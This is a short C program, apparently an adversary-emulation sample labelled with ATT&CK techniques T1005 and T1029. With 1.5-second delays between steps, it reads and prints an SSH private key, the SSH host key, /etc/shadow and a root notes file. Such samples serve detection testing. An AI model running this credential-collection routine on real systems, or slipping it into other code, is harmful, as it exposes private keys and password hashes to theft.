/* T1005, T1029: takes one secret after the other, with seconds between all that it does.
 * aim: secrets */
#include "loopback.h"

static const char *const wanted[] = {"/home/alice/.ssh/id_ed25519", "/etc/ssh/ssh_host_key", "/etc/shadow",
                                     "/root/notes.txt"};

int main(void)
{
    char text[256];
    uint32_t got = 0;
    for (uint32_t row = 0; row < sizeof wanted / sizeof wanted[0]; row++) {
        wait_ms(1500);
        int32_t size = read_file(wanted[row], text, sizeof text);
        wait_ms(1500);
        if (size > 0) {
            print_bytes(text, (uint32_t)size);
            flush();
            got++;
        }
    }
    print(got ? "done\n" : "no\n");
    return !got;
}
